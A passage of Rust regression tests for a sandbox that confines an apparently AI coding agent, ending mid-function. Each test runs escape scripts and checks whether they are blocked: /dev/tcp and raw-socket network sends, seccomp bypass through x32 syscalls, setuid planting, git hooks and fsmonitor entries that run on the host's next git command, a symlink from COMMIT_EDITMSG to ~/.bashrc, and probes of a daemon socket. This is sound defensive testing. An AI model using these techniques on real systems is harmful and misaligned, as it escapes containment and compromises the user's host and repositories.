            run: |f, b| {
                // Per-number seccomp rules do not match x32 numbers (nr | 0x40000000), which
                // share x86_64's audit arch; the filter refuses them all. Observable only on a
                // kernel built with x32 support: probe it outside the sandbox first.
                let Some(program) = x32_udp_program(f) else {
                    return Verdict::Skipped("x32-abi", "not an x86_64 build".into());
                };
                let allowed = free_listener();
                let sink = UdpSocket::bind("127.0.0.1:0").unwrap();
                sink.set_read_timeout(Some(Duration::from_millis(300)))
                    .unwrap();
                let port = sink.local_addr().unwrap().port().to_string();
                let probe = Command::new(&program).arg(&port).output().unwrap();
                let mut buf = [0u8; 64];
                if !probe.status.success() || sink.recv(&mut buf).is_err() {
                    return Verdict::Skipped(
                        "x32-abi",
                        format!(
                            "this kernel has no x32 ABI (CONFIG_X86_X32_ABI): {}",
                            String::from_utf8_lossy(&probe.stdout).trim()
                        ),
                    );
                }
                let flags = block_net_flags(allowed.local_addr().unwrap().port());
                let out = f.run(
                    b,
                    &flags,
                    &format!("echo {MARK}; {} {port}", program.display()),
                );
                judge(
                    &out,
                    sink.recv(&mut buf).is_ok(),
                    "x32 UDP datagram arrived",
                )
            },
        },
    ]
}

/// Rows of the `net` family named in `escape.rs` (known gaps without a network namespace)
/// and in its control rules (what an unprivileged control cannot do).
pub const LISTEN_WITHOUT_BIND: &str =
    "take a host connection on a port listen(2) bound by itself (no bind(2))";
pub const ALLOWED_PORT_ELSEWHERE: &str = "reach an allowed port at the host's non-loopback address";
pub const FAST_OPEN: &str = "TCP fast open to a port not allowed (sendto, no connect(2))";
pub const RAW_SOCKET: &str = "send a UDP datagram through a raw socket under --block-net";

/// `sandbox run --backend B FLAGS -- sh -c SCRIPT` with piped stdio (host: no flags).
fn spawn_run_flags(f: &Fixture, b: &str, flags: &[String], script: &str) -> Child {
    let (mut cmd, backend) = if b == NATIVE_NOUSERNS {
        (f.env.cmd_under(&NOUSERNS_WRAPPER), "native")
    } else {
        (f.env.cmd(), b)
    };
    let flags: &[String] = if b == "host" { &[] } else { flags };
    cmd.current_dir(&f.task)
        .args(["run", "--backend", backend])
        .args(flags)
        .args(["--", "sh", "-c", script])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

/// A connection already in `listener`'s queue, without waiting: the run that made it has
/// exited, so a connection it made is queued by now.
fn queued(listener: &TcpListener) -> bool {
    listener.set_nonblocking(true).unwrap();
    listener.accept().is_ok()
}

/// An address of this host other than loopback (the source address of its default route),
/// if it has one. No packet is sent: a UDP connect only picks the route.
fn host_address() -> Option<std::net::IpAddr> {
    let probe = UdpSocket::bind("0.0.0.0:0").ok()?;
    probe.connect("192.0.2.1:9").ok()?;
    let ip = probe.local_addr().ok()?.ip();
    (!ip.is_loopback() && !ip.is_unspecified()).then_some(ip)
}

/// The inbound rows: the script prints MARK, then the port it listens on (or `none`), then
/// waits until a connection is queued or its stdin closes, and prints ACCEPTED for one. The
/// test connects to that port of the host's loopback once it is printed, then closes stdin.
fn inbound_attack(f: &Fixture, b: &str, listen: &str) -> Verdict {
    if b.ends_with(DAEMON) {
        return Verdict::Skipped(
            "net-inbound-daemon",
            "an inbound row needs the run's output while it runs; box.exec goes through the \
             same Run::arm, so its commands get the same namespace"
                .into(),
        );
    }
    let allowed = free_listener();
    let flags = block_net_flags(allowed.local_addr().unwrap().port());
    let script = format!(
        "echo {MARK}; /usr/bin/python3 -c \"
import socket, select, sys
s = socket.socket()
try:
    {listen}
    s.listen(8)
    print(s.getsockname()[1], flush=True)
except OSError as e:
    print('none', e, flush=True)
    sys.exit(0)
select.select([s, sys.stdin], [], [])
if select.select([s], [], [], 0)[0]:
    c, _ = s.accept()
    print('ACCEPTED', flush=True)
\""
    );
    let mut child = spawn_run_flags(f, b, &flags, &script);
    let mut stdout = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut lines = Vec::new();
    for _ in 0..2 {
        let mut line = String::new();
        if std::io::BufRead::read_line(&mut stdout, &mut line).unwrap_or(0) == 0 {
            break;
        }
        lines.push(line);
    }
    if let Some(port) = lines.get(1).and_then(|l| l.trim().parse::<u16>().ok()) {
        // Refused at once where nothing of the host listens there; queued inside where the
        // host's connection reaches the run's listener.
        if let Ok(mut c) = std::net::TcpStream::connect(("127.0.0.1", port)) {
            let _ = std::io::Write::write_all(&mut c, b"pwned");
        }
    }
    drop(child.stdin.take());
    let mut rest = String::new();
    let _ = stdout.read_to_string(&mut rest);
    let out = child.wait_with_output().unwrap();
    let stdout = format!("{}{rest}", lines.concat());
    let out = Output {
        stdout: stdout.into_bytes(),
        ..out
    };
    judge(
        &out,
        String::from_utf8_lossy(&out.stdout).contains("ACCEPTED"),
        "a host connection reached a listener of the run",
    )
}

/// The network under --block-net from every door into a connection, with or without
/// connect(2)/bind(2): the private network namespace closes them all (without user namespaces,
/// Landlock and seccomp close what they can see).
fn net_attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: FAST_OPEN,
            needs: Some("/usr/bin/python3"),
            run: |f, b| {
                let client = std::fs::read_to_string("/proc/sys/net/ipv4/tcp_fastopen")
                    .ok()
                    .and_then(|v| v.trim().parse::<u32>().ok())
                    .unwrap_or(0);
                if client & 1 == 0 {
                    return Verdict::Skipped(
                        "tcp-fastopen",
                        "net.ipv4.tcp_fastopen has no client bit here".into(),
                    );
                }
                let allowed = free_listener();
                let target = free_listener();
                let port = target.local_addr().unwrap().port();
                let flags = block_net_flags(allowed.local_addr().unwrap().port());
                let out = f.run(
                    b,
                    &flags,
                    &format!(
                        "echo {MARK}; /usr/bin/python3 -c \"import socket; s=socket.socket(); s.sendto(b'pwned', 0x20000000, ('127.0.0.1', {port}))\""
                    ),
                );
                judge(&out, queued(&target), "forbidden port reached by fast open")
            },
        },
        Attack {
            name: LISTEN_WITHOUT_BIND,
            needs: Some("/usr/bin/python3"),
            run: |f, b| inbound_attack(f, b, "pass"),
        },
        Attack {
            name: "take a host connection on a port not allowed (bind(2), listen, accept)",
            needs: Some("/usr/bin/python3"),
            run: |f, b| {
                let port = free_listener().local_addr().unwrap().port();
                inbound_attack(f, b, &format!("s.bind(('127.0.0.1', {port}))"))
            },
        },
        Attack {
            name: ALLOWED_PORT_ELSEWHERE,
            needs: Some("/bin/bash"),
            run: |f, b| {
                let Some(ip) = host_address() else {
                    return Verdict::Skipped(
                        "no-host-address",
                        "this host has no address but loopback".into(),
                    );
                };
                let target = TcpListener::bind((std::net::Ipv4Addr::UNSPECIFIED, 0)).unwrap();
                let port = target.local_addr().unwrap().port();
                let out = f.run(
                    b,
                    &block_net_flags(port),
                    &format!("echo {MARK}; bash -c 'echo pwned > /dev/tcp/{ip}/{port}'"),
                );
                judge(
                    &out,
                    queued(&target),
                    "the allowed port reached at another address",
                )
            },
        },
        Attack {
            name: RAW_SOCKET,
            needs: Some("/usr/bin/python3"),
            run: |f, b| {
                let allowed = free_listener();
                let sink = UdpSocket::bind("127.0.0.1:0").unwrap();
                sink.set_nonblocking(true).unwrap();
                let port = sink.local_addr().unwrap().port();
                let flags = block_net_flags(allowed.local_addr().unwrap().port());
                // A UDP header (source port 9, no checksum) and the payload, sent as IP
                // protocol 17 through a raw socket: the kernel adds the IP header.
                let out = f.run(
                    b,
                    &flags,
                    &format!(
                        "echo {MARK}; /usr/bin/python3 -c \"import socket, struct; s=socket.socket(socket.AF_INET, socket.SOCK_RAW, 17); s.sendto(struct.pack('!HHHH', 9, {port}, 13, 0) + b'pwned', ('127.0.0.1', 0))\""
                    ),
                );
                let mut buf = [0u8; 64];
                judge(&out, sink.recv(&mut buf).is_ok(), "raw datagram arrived")
            },
        },
        Attack {
            name: "connect to an abstract unix socket outside under --block-net",
            needs: Some("/usr/bin/python3"),
            run: |f, b| {
                let allowed = free_listener();
                let flags = block_net_flags(allowed.local_addr().unwrap().port());
                abstract_socket_attack(f, b, &flags)
            },
        },
    ]
}

/// The host's terminals and device nodes, and file modes the host would honour (setuid).
fn device_attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "read and write another terminal of the user (/dev/pts/N)",
            needs: None,
            run: |f, b| {
                // Another terminal of the user's (a pty the test holds), with a line typed
                // there and not yet read.
                let pty = nix::pty::openpty(None, None).unwrap();
                let path =
                    std::fs::read_link(format!("/proc/self/fd/{}", pty.slave.as_raw_fd())).unwrap();
                nix::unistd::write(&pty.master, b"typed-secret\n").unwrap();
                let script = format!(
                    "echo {MARK}; IFS= read -r line < {0} && echo \"got=$line\"; \
                     echo pwned-tty > {0}",
                    path.display()
                );
                let out = f.run(b, &[], &script);
                let read = String::from_utf8_lossy(&out.stdout).contains("got=typed-secret");
                let written = drain(&pty.master).contains("pwned-tty");
                judge(
                    &out,
                    read || written,
                    &format!("other terminal: read {read}, written {written}"),
                )
            },
        },
        Attack {
            name: TERMINAL_DEVICE_MODE,
            needs: None,
            run: |f, b| {
                // chmod to the mode it has: the host's node is left as it was, but its ctime
                // shows that the change went through.
                let before = ctime(Path::new("/dev/null"));
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; chmod \"$(stat -c %a /dev/null)\" /dev/null"),
                );
                let changed = ctime(Path::new("/dev/null")) != before;
                judge(&out, changed, "the host's /dev/null was chmod-ed")
            },
        },
        Attack {
            name: "leave a setuid binary in the worktree",
            needs: None,
            run: |f, b| {
                let planted = f.task.join("suid-sh");
                let created = f.task.join("suid-created");
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; cp /bin/sh ./suid-sh; chmod 4755 ./suid-sh; \
                         /usr/bin/python3 -c 'import os; os.close(os.open(\"suid-created\", \
                         os.O_CREAT | os.O_WRONLY, 0o6755))'"
                    ),
                );
                let setid = |p: &Path| {
                    std::fs::metadata(p).is_ok_and(|m| {
                        std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o6000 != 0
                    })
                };
                judge(
                    &out,
                    setid(&planted) || setid(&created),
                    "a setuid/setgid file was left in the worktree",
                )
            },
        },
    ]
}

/// The git pointers of the worktree (HEAD, .git, commondir) and their repair.
fn pointer_attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "re-point another worktree's HEAD in <common>/worktrees",
            needs: None,
            run: |f, b| {
                // Only worktrees/<this one> is writable: a second task's gitdir is not.
                f.other_task();
                let head = f.common.join("worktrees/other-task/HEAD");
                let before = std::fs::read_to_string(&head).unwrap();
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; echo 'ref: refs/heads/trunk' > '{}'",
                        head.display()
                    ),
                );
                let after = std::fs::read_to_string(&head).unwrap();
                judge(&out, after != before, "the other worktree's HEAD changed")
            },
        },
        Attack {
            name: "rewrite the worktree's .git pointer",
            needs: None,
            run: |f, b| {
                let evil = f.task.join("evil-gitdir");
                let script = format!(
                    "echo {MARK}; mkdir -p evil-gitdir/hooks; printf 'gitdir: {}\\n' > .git",
                    evil.display()
                );
                pointer_attack(f, b, &f.task.join(".git"), &script)
            },
        },
        Attack {
            name: "rewrite <gitdir>/commondir",
            needs: None,
            run: |f, b| {
                let pointer = f.common.join("worktrees/task/commondir");
                let script = format!(
                    "echo {MARK}; echo /tmp/evil-common > '{}'",
                    pointer.display()
                );
                pointer_attack(f, b, &pointer, &script)
            },
        },
        Attack {
            name: "make the pointer repair write through a planted symlink",
            needs: None,
            run: |f, b| {
                // The repair after the run used to write `.<name>.sandbox-restore` beside the
                // pointer (following symlinks) and rename it over the pointer. Plant symlinks
                // at those names, and at the unprefixed spelling, pointing at files outside
                // the worktree, then rewrite two pointers so that a repair happens.
                //
                // The judgement has two halves. A victim that changed is the escape this row
                // is about (the host's own repair wrote for the agent). But the host backend
                // repairs nothing, so it can never write through the link: the control would
                // prove nothing. So a pointer left tampered also counts as escaped. Under
                // host the pointers stay rewritten (the control escapes); a backend holds
                // only if both pointers are back *and* both victims are untouched.
                let gitdir = f.common.join("worktrees/task");
                let victims = [
                    f.outside.join("repair-victim-1.txt"),
                    f.outside.join("repair-victim-2.txt"),
                ];
                for v in &victims {
                    std::fs::write(v, "original\n").unwrap();
                }
                let pointers = [f.task.join(".git"), gitdir.join("commondir")];
                let plant = |dir: &Path, name: &str, victim: &Path| {
                    [
                        format!(".{name}.sandbox-restore"),
                        format!("{name}.sandbox-restore"),
                    ]
                    .map(|link| {
                        format!(
                            "ln -s '{}' '{}'; ",
                            victim.display(),
                            dir.join(link).display()
                        )
                    })
                    .concat()
                };
                let script = format!(
                    "echo {MARK}; {}{}printf 'gitdir: /tmp/evil\\n' > .git; echo /tmp/evil-common > '{}'",
                    plant(&f.task, ".git", &victims[0]),
                    plant(&gitdir, "commondir", &victims[1]),
                    pointers[1].display(),
                );
                let before = pointers
                    .each_ref()
                    .map(|p| std::fs::read_to_string(p).unwrap());
                let out = f.run(b, &[], &script);
                if let Err(v) = ran(&out) {
                    return v;
                }
                for v in &victims {
                    let now = std::fs::read_to_string(v).unwrap_or_default();
                    if now != "original\n" {
                        return Verdict::Escaped(format!(
                            "the repair wrote through a planted symlink: {} now {now:?}\n{}",
                            v.display(),
                            super::text(&out)
                        ));
                    }
                }
                pointers_verdict(&out, &pointers, &before)
            },
        },
        Attack {
            name: "replace .git by a directory whose hooks run on the host's next git",
            needs: None,
            run: |f, b| {
                // The agent swaps the `.git` pointer file for a git directory of its own
                // (objects borrowed from the real repository, so it is a valid one) whose
                // config points core.hooksPath at hooks it wrote. It also fills the names the
                // old repair moved a directory aside to (`.git.sandbox-quarantine-<seconds>`)
                // with non-empty directories, so that a predictable move would fail. Judged
                // from outside: after the run the *host* runs git in the worktree; a hook
                // that ran is the escape, and the pointer file must be back.
                let marker = f.outside.join("hook-ran");
                let hooks = f.task.join("evil-hooks");
                let index = f.common.join("worktrees/task/index");
                let script = format!(
                    "echo {MARK}; set -e; mkdir -p '{hooks}'; \
                     printf '#!/bin/sh\\necho pwned > {marker}\\n' > '{hooks}/post-checkout'; \
                     cp '{hooks}/post-checkout' '{hooks}/pre-commit'; \
                     chmod +x '{hooks}/post-checkout' '{hooks}/pre-commit'; \
                     rev=$(git rev-parse HEAD); \
                     mkdir -p .evil/refs/heads .evil/objects/info; \
                     echo '{objects}' > .evil/objects/info/alternates; \
                     echo \"$rev\" > .evil/refs/heads/feature; \
                     echo 'ref: refs/heads/feature' > .evil/HEAD; \
                     cp '{index}' .evil/index; \
                     printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\thooksPath = {hooks}\\n' > .evil/config; \
                     now=$(date +%s); for s in $(seq $((now - 2)) $((now + 120))); do \
                       mkdir -p \".git.sandbox-quarantine-$s/x\"; done; \
                     rm .git; mv .evil .git; echo swapped",
                    hooks = hooks.display(),
                    marker = marker.display(),
                    objects = f.common.join("objects").display(),
                    index = index.display(),
                );
                let pointer = f.task.join(".git");
                let before = std::fs::read_to_string(&pointer).unwrap();
                let out = f.run(b, &[], &script);
                if let Err(v) = ran(&out) {
                    return v;
                }
                let host_git = [
                    host_git(&f.task, &["status", "--short"]),
                    host_git(&f.task, &["checkout", "-q", "-b", "after-the-run"]),
                ];
                if marker.exists() {
                    return Verdict::Escaped(format!(
                        "a hook the agent wrote ran in the host's git\n{}\nhost git: {}",
                        super::text(&out),
                        host_git
                            .iter()
                            .map(super::text)
                            .collect::<Vec<_>>()
                            .join("\n")
                    ));
                }
                pointers_verdict(&out, &[pointer], &[before])
            },
        },
    ]
}

/// The git store: objects, other branches, refs, alternates.
fn store_attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "rewrite an existing blob of trunk",
            needs: None,
            run: |f, b| {
                // Another object's bytes in place of README's blob: the host's next checkout
                // of trunk would write them without a word.
                let blob = rev_parse(f, "trunk:README");
                let other = rev_parse(f, "trunk:hello.c");
                let path = |oid: &str| f.common.join("objects").join(&oid[..2]).join(&oid[2..]);
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; chmod u+w '{0}'; cat '{1}' > '{0}'",
                        path(&blob).display(),
                        path(&other).display()
                    ),
                );
                let now = host_git(&f.main, &["cat-file", "blob", &blob]);
                judge(
                    &out,
                    !now.status.success() || now.stdout != b"hello\n",
                    "trunk's README blob changed",
                )
            },
        },
        Attack {
            name: "move trunk (update-ref, and by writing its file)",
            needs: None,
            run: |f, b| {
                let before = rev_parse(f, "trunk");
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; git commit -q --allow-empty -m evil; \
                         git update-ref refs/heads/trunk HEAD; git rev-parse HEAD > '{0}'",
                        f.common.join("refs/heads/trunk").display()
                    ),
                );
                judge(&out, rev_parse(f, "trunk") != before, "trunk moved")
            },
        },
        Attack {
            name: "delete trunk",
            needs: None,
            run: |f, b| {
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; git update-ref -d refs/heads/trunk; rm -f '{}'",
                        f.common.join("refs/heads/trunk").display()
                    ),
                );
                let gone = !host_git(
                    &f.main,
                    &["rev-parse", "--verify", "-q", "refs/heads/trunk"],
                )
                .status
                .success();
                judge(&out, gone, "trunk deleted")
            },
        },
        Attack {
            name: "rewrite packed-refs to move a packed trunk",
            needs: None,
            run: |f, b| {
                git(&f.main, &["pack-refs", "--all"]);
                let packed = f.common.join("packed-refs");
                let before = std::fs::read_to_string(&packed).unwrap();
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; git commit -q --allow-empty -m evil; \
                         printf '%s refs/heads/trunk\\n' \"$(git rev-parse HEAD)\" > '{0}'",
                        packed.display()
                    ),
                );
                let after = std::fs::read_to_string(&packed).unwrap_or_default();
                judge(&out, after != before, "packed-refs rewritten")
            },
        },
        Attack {
            name: "add objects/info/alternates pointing outside",
            needs: None,
            run: |f, b| {
                let alternates = f.common.join("objects/info/alternates");
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; mkdir -p '{0}'; echo '{1}' > '{0}/alternates'",
                        alternates.parent().unwrap().display(),
                        f.outside.display()
                    ),
                );
                judge(&out, alternates.exists(), "alternates added")
            },
        },
        Attack {
            name: "move another task's branch",
            needs: None,
            run: |f, b| {
                f.other_task();
                let before = rev_parse(f, "other");
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; git commit -q --allow-empty -m evil; \
                         git update-ref refs/heads/other HEAD; git branch -f other HEAD"
                    ),
                );
                judge(
                    &out,
                    rev_parse(f, "other") != before,
                    "the other task's branch moved",
                )
            },
        },
        Attack {
            name: REPLACE_OBJECT,
            needs: None,
            run: |f, b| {
                // trunk never moves, yet every reader on the host sees the agent's README.
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; git replace \"$(git rev-parse trunk:README)\" \
                         \"$(echo evil | git hash-object -w --stdin)\""
                    ),
                );
                let now = host_git(&f.main, &["show", "trunk:README"]);
                judge(
                    &out,
                    now.stdout != b"hello\n",
                    "the host's trunk:README shows the agent's blob (refs/replace)",
                )
            },
        },
        Attack {
            name: SHADOW_REF,
            needs: None,
            run: |f, b| {
                let before = rev_parse(f, "trunk");
                // A tag wins over a branch of the same name (git's lookup order), a branch
                // over a remote-tracking one: `git reset --hard trunk` would take the tag.
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; git commit -q --allow-empty -m evil; git tag trunk HEAD"
                    ),
                );
                judge(
                    &out,
                    rev_parse(f, "trunk") != before,
                    "`trunk` resolves to the agent's new tag on the host",
                )
            },
        },
        Attack {
            name: "switch HEAD to another task's branch, then move it in the next run",
            needs: None,
            run: |f, b| {
                f.other_task();
                let before = rev_parse(f, "other");
                // The next run takes the branch HEAD names for its task branch.
                let first = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; git symbolic-ref HEAD refs/heads/other"),
                );
                if let Err(v) = ran(&first) {
                    return v;
                }
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; git commit -q --allow-empty -m evil"),
                );
                judge(
                    &out,
                    rev_parse(f, "other") != before,
                    "the other task's branch moved in the second run",
                )
            },
        },
        Attack {
            name: HEAD_ON_A_FUTURE_BRANCH,
            needs: None,
            run: |f, b| {
                let first = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; git symbolic-ref HEAD refs/heads/later"),
                );
                if let Err(v) = ran(&first) {
                    return v;
                }
                // The user creates the branch (it does not exist, so the run could name it).
                git(&f.main, &["branch", "later", "trunk"]);
                let before = rev_parse(f, "later");
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; git commit -q --allow-empty -m evil"),
                );
                if refused_at_start(&out) {
                    return Verdict::Blocked;
                }
                judge(
                    &out,
                    rev_parse(f, "later") != before,
                    "the user's new branch moved in the next run",
                )
            },
        },
        Attack {
            name: HEAD_PARKED_THEN_KILLED,
            needs: None,
            run: |f, b| {
                if b.ends_with(DAEMON) {
                    return Verdict::Skipped(
                        "daemon-is-not-killed",
                        "the attack is a SIGKILL of `sandbox run` before its check".into(),
                    );
                }
                let before = rev_parse(f, "trunk");
                // Park HEAD on trunk, then the sandbox is killed outright: no check after it.
                let (mut cmd, backend) = if b == NATIVE_NOUSERNS {
                    (f.env.cmd_under(&NOUSERNS_WRAPPER), "native")
                } else {
                    (f.env.cmd(), b)
                };
                let mut child = cmd
                    .current_dir(&f.task)
                    .args(["run", "--backend", backend, "--", "sh", "-c"])
                    .arg("git symbolic-ref HEAD refs/heads/trunk && echo parked && read line")
                    .stdin(Stdio::piped())
                    .stdout(Stdio::piped())
                    .stderr(Stdio::null())
                    .spawn()
                    .unwrap();
                let mut line = String::new();
                let mut stdout = std::io::BufReader::new(child.stdout.take().unwrap());
                let _ = std::io::BufRead::read_line(&mut stdout, &mut line);
                if line.trim() != "parked" {
                    let _ = child.kill();
                    let _ = child.wait();
                    return Verdict::NotRun(format!("the first run printed {line:?}"));
                }
                // The wrapper of native-nouserns execs sandbox: the pid is sandbox's own.
                let _ = nix::sys::signal::kill(
                    nix::unistd::Pid::from_raw(child.id() as i32),
                    nix::sys::signal::Signal::SIGKILL,
                );
                let _ = child.wait();
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; git commit -q --allow-empty -m evil"),
                );
                if refused_at_start(&out) {
                    return Verdict::Blocked;
                }
                judge(
                    &out,
                    rev_parse(f, "trunk") != before,
                    "trunk moved in the run after the killed one",
                )
            },
        },
        Attack {
            name: "link COMMIT_EDITMSG to ~/.bashrc, so the user's commit --amend writes it",
            needs: None,
            run: |f, b| {
                let bashrc = f.home.join(".bashrc");
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; g=$(git rev-parse --git-dir); rm -f \"$g/COMMIT_EDITMSG\"; \
                         ln -s '{}' \"$g/COMMIT_EDITMSG\"",
                        bashrc.display()
                    ),
                );
                // The user's next amend writes its message through the link.
                let _ = host_git(&f.task, &["commit", "-q", "--amend", "--no-edit"]);
                let now = std::fs::read_to_string(&bashrc).unwrap_or_default();
                judge(
                    &out,
                    now != "# original\n",
                    "~/.bashrc now holds a commit message",
                )
            },
        },
        Attack {
            name: "plant config.worktree with core.fsmonitor, run by the user's sparse-checkout",
            needs: None,
            run: |f, b| {
                let mark = f.outside.join(format!("worktree-config-ran-{}", unique()));
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; printf '#!/bin/sh\\ntouch {}\\n' > .fsm && chmod +x .fsm \
                         && printf '[core]\\n\\tfsmonitor = %s/.fsm\\n' \"$PWD\" \
                         > \"$(git rev-parse --git-dir)/config.worktree\"",
                        mark.display()
                    ),
                );
                // Dormant until the user turns per-worktree config on, as sparse-checkout does.
                let _ = host_git(&f.task, &["sparse-checkout", "set", "--no-cone", "/*"]);
                let _ = host_git(&f.task, &["status", "--short"]);
                judge(
                    &out,
                    mark.exists(),
                    "the user's git status ran the fsmonitor",
                )
            },
        },
        Attack {
            name: "stop a rebase before an exec line, run by the user's rebase --continue",
            needs: None,
            run: |f, b| {
                let mark = f.outside.join(format!("rebase-exec-ran-{}", unique()));
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; printf '#!/bin/sh\\nprintf \"break\\\\nexec touch {}\\\\n\" \
                         > \"$1\"\\n' > .ed && chmod +x .ed && \
                         GIT_SEQUENCE_EDITOR=\"$PWD/.ed\" git rebase -q -i HEAD; \
                         cat \"$(git rev-parse --git-dir)/rebase-merge/git-rebase-todo\"",
                        mark.display()
                    ),
                );
                let _ = host_git(&f.task, &["rebase", "--continue"]);
                judge(
                    &out,
                    mark.exists(),
                    "the user's rebase --continue ran the exec line",
                )
            },
        },
        Attack {
            name: "hide an edit from the user's git status with skip-worktree",
            needs: None,
            run: |f, b| {
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; echo evil >> README; git update-index --skip-worktree README"
                    ),
                );
                let status = host_git(&f.task, &["status", "--porcelain"]);
                let hidden = status.stdout.is_empty()
                    && std::fs::read_to_string(f.task.join("README")).unwrap_or_default()
                        != "hello\n";
                // Held when the bit is reported: the user is told where to look.
                let told =
                    String::from_utf8_lossy(&out.stderr).contains("--no-skip-worktree README");
                judge(
                    &out,
                    hidden && !told,
                    "git status shows nothing, and no word of it",
                )
            },
        },
        Attack {
            name: "stage a gitlink into <gitdir>/modules, so the user's git status runs its config",
            needs: None,
            run: |f, b| {
                let n = unique();
                let mark = f.outside.join(format!("gitdir-modules-ran-{n}"));
                let sub = format!("sub-{n}");
                // git's own layout for a linked worktree's submodules, in the git dir the
                // run writes: `.git` is a pointer, the repository lies in <gitdir>/modules.
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; g=$(git rev-parse --absolute-git-dir); \
                         mkdir -p {sub} \"$g/modules\" && git init -q --separate-git-dir \"$g/modules/{sub}\" {sub} && \
                         printf '#!/bin/sh\\ntouch {mark}\\n' > \"$g/modules/{sub}/fsm\" && \
                         chmod +x \"$g/modules/{sub}/fsm\" && \
                         git -C {sub} config core.fsmonitor \"$g/modules/{sub}/fsm\" && \
                         git -C {sub} commit -q --allow-empty -m s && \
                         git update-index --add --cacheinfo \
                           160000,$(git -C {sub} rev-parse HEAD),{sub}",
                        mark = mark.display()
                    ),
                );
                if let Err(v) = ran(&out) {
                    return v;
                }
                let _ = host_git(&f.task, &["status", "--short"]);
                judge(
                    &out,
                    mark.exists(),
                    "the user's git status ran the submodule's fsmonitor",
                )
            },
        },
    ]
}

/// Services of the host on pathname sockets: a tmux-like server, the daemon.
fn socket_attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "send a command to a tmux-like socket outside the grants",
            needs: Some("/usr/bin/python3"),
            run: |f, b| {
                let uid = nix::unistd::getuid();
                let path = f.env.path().join(format!("sockets/tmux-{uid}/default"));
                unix_command_attack(f, b, &path)
            },
        },
        Attack {
            name: "send a command to a tmux-like socket in /tmp",
            needs: Some("/usr/bin/python3"),
            run: |f, b| {
                // Where tmux really keeps it: /tmp/tmux-<uid>/default.
                let dir = std::env::temp_dir().join(format!(
                    "sandbox-test-tmux-{}-{}-{}",
                    std::process::id(),
                    unique(),
                    rand_suffix()
                ));
                let verdict = unix_command_attack(f, b, &dir.join("default"));
                let _ = std::fs::remove_dir_all(&dir);
                verdict
            },
        },
        Attack {
            name: "reach the daemon's socket (without its token)",
            needs: Some("/usr/bin/python3"),
            run: |f, b| {
                // Escaped = the socket was reachable at all (connect succeeded): reachability
                // is what a private view of the filesystem must take away. Where it is
                // reachable, the host token still protects it — the daemon answers nothing
                // but `unauthenticated` before `host.hello` — and a reply with a result
                // would be a far worse finding, reported as such.
                let socket = f.daemon().paths().socket();
                let script = format!(
                    "echo {MARK}; /usr/bin/python3 -c '\
import socket\n\
s = socket.socket(socket.AF_UNIX)\n\
s.connect(\"{}\")\n\
print(\"CONNECTED\", flush=True)\n\
s.settimeout(5)\n\
s.sendall(b\"{{\\\"id\\\":1,\\\"method\\\":\\\"box.list\\\",\\\"params\\\":{{}}}}\\n\")\n\
print(\"REPLY:\" + s.recv(4096).decode(errors=\"replace\"))\n'",
                    socket.display()
                );
                let out = f.run(b, &[], &script);
                let stdout = String::from_utf8_lossy(&out.stdout);
                let reply = stdout
                    .lines()
                    .find_map(|l| l.strip_prefix("REPLY:"))
                    .unwrap_or("");
                if reply.contains("\"result\"") {
                    return Verdict::Escaped(format!(
                        "the daemon ANSWERED without a token: {reply}\n{}",
                        super::text(&out)
                    ));
                }
                judge(
                    &out,
                    stdout.contains("CONNECTED"),
                    "the daemon's socket was reachable",
                )
            },
        },
    ]
}

/// Whether the run was refused before its command because `HEAD` names a branch the
/// worktree's runs do not own.
fn refused_at_start(out: &Output) -> bool {
    !String::from_utf8_lossy(&out.stdout).contains(MARK)
        && String::from_utf8_lossy(&out.stderr).contains("git: refusing to run in")
}

/// What `rev` names in the repository, on the host.
pub fn rev_parse(f: &Fixture, rev: &str) -> String {
    let out = host_git(&f.main, &["rev-parse", "--verify", "-q", rev]);
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// Git as the user runs it on the host after the run (no global or system config).
pub fn host_git(dir: &Path, args: &[&str]) -> Output {
    Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

/// A server outside every grant at the pathname socket `path` that takes one line; the
/// attack sends it a tmux-style command. Escaped if the command arrived.
fn unix_command_attack(f: &Fixture, backend: &str, path: &Path) -> Verdict {
    let dir = path.parent().unwrap();
    std::fs::create_dir_all(dir).unwrap();
    std::fs::set_permissions(dir, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
    let listener = UnixListener::bind(path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let script = format!(
